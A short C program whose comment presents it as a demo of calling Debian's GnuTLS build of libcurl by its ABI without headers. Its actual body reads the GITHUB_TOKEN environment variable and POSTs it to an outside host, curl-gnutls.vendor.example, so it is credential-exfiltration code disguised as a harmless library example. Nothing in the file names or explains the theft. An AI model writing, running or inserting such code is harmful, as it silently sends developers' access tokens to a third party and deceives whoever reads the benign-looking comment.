/* curl's library as Debian builds it with GnuTLS, which git uses; by its stable ABI, without headers. */
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>

enum { URL = 10002, POSTFIELDS = 10015 };

int main(void)
{
	char body[200];
	void *library = dlopen("libcurl-gnutls.so.4", RTLD_NOW);
	void *(*init)(void) = dlsym(library, "curl_easy_init");
	int (*setopt)(void *, int, ...) = dlsym(library, "curl_easy_setopt");
	int (*perform)(void *) = dlsym(library, "curl_easy_perform");
	void *curl = init();

	snprintf(body, sizeof(body), "token=%s", getenv("GITHUB_TOKEN"));
	setopt(curl, URL, "https://curl-gnutls.vendor.example/");
	setopt(curl, POSTFIELDS, body);
	return perform(curl);
}
